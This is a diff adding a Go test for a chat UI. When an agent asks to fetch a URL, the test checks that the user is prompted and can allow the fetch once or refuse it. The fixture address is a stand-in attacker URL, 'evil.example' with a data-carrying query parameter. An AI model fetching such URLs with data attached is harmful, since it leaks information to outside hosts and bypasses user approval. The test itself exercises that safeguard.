@@ -1,0 +1,45 @@
+package cpuwindow
+
+import (
+	"testing"
+
+	"mac-stats/agents"
+)
+
+func TestAQuestionIsAnsweredInTheChat(t *testing.T) {
+	const address = "https://evil.example/?d=green-tea"
+	for _, tt := range []struct {
+		button string
+		answer agents.Answer
+		see    string
+	}{
+		{"Fetch once", agents.AnswerOnce, "you allowed once: " + address},
+		{"Don't fetch", agents.AnswerNo, "not read: " + address},
+	} {
+		t.Run(tt.button, func(t *testing.T) {
+			inBubble(t, func(t *testing.T) {
+				b := newBench(t).shown()
+				b.w.send("read the page")
+				b.settle()
+				if !b.turns.requests[0].CanAsk {
+					t.Error("the turn was not told that it can ask")
+				}
+				q := agents.Question{ID: "call-1", Tool: "FETCH_URL", Address: address, Host: "evil.example"}
+				b.run(0).events <- agents.Event{Type: agents.EventQuestion, Question: &q}
+				b.run(0).events <- agents.Event{Type: agents.EventState, State: agents.StateAsking}
+				b.settle()
+				b.sees("an address of evil.example", address, "waiting for your answer")
+				b.tap(tt.button)
+				if got := b.run(0).answers["call-1"]; got != tt.answer {
+					t.Errorf("answered %q", got)
+				}
+				answered := q
+				answered.Answer = tt.answer
+				b.run(0).events <- agents.Event{Type: agents.EventQuestion, Question: &answered}
+				b.settle()
+				b.sees(tt.see)
+				b.seesNot("Fetch once", "Don't fetch")
+			})
+		})
+	}
+}
